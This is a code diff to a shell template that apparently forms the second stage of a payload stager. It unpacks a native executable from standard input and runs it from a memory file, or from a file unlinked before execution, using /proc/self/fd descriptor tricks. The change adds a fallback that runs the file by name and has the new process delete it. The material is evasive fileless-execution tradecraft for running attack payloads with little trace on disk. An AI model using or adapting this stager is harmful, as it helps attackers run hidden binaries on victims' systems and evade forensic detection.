@@ -1,7 +1,8 @@
 # The second stage for a native payload: %PACKED% bytes follow, which %UNPACK% turns into an executable of %SIZE% bytes.
 #
 # It is run from a memory file where perl or python can make one (%MEMORY% runs $0 with the number of one, or $1 where there is none),
-# else from a file that is unlinked before it runs. A file that is open for writing cannot be executed, so it is opened again.
+# else from a file that is unlinked before it runs. A file that is open for writing cannot be executed, so it is opened again. All of that
+# goes by /proc; without it, the file is run by its name, and the new context deletes it.
 s='head -c %PACKED% | %UNPACK% >/proc/self/fd/$0;
 exec 9</proc/self/fd/$0;
 eval "exec $0>&-";
@@ -15,4 +16,5 @@ exec 9<"$f";
 clear;
 d=;
 exec /proc/self/fd/9 %ARGUMENTS%';
+[ -d /proc/self/fd ] || eval "$d";
 %MEMORY%
